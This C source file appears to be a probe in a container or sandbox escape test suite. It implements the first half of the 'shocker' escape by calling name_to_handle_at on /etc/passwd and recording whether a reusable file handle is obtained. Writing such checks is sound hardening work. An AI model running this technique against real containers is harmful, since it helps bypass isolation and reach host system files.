/* The first half of the "shocker" escape: a file handle can later be
 * opened with open_by_handle_at, past any path-based rule. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

void atk_run(struct atk_outcome *o)
{
    static unsigned char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ]
        __attribute__((aligned(8)));
    struct file_handle *fh = (struct file_handle *)buf;
    int mount_id = 0;
    fh->handle_bytes = MAX_HANDLE_SZ;
    long r = syscall(SYS_name_to_handle_at, AT_FDCWD, "/etc/passwd", fh, &mount_id, 0);
    atk_set(o, r, errno);
    if (r == 0)
        snprintf(o->detail, sizeof o->detail, "handle of %u bytes, mount %d", fh->handle_bytes,
                 mount_id);
}
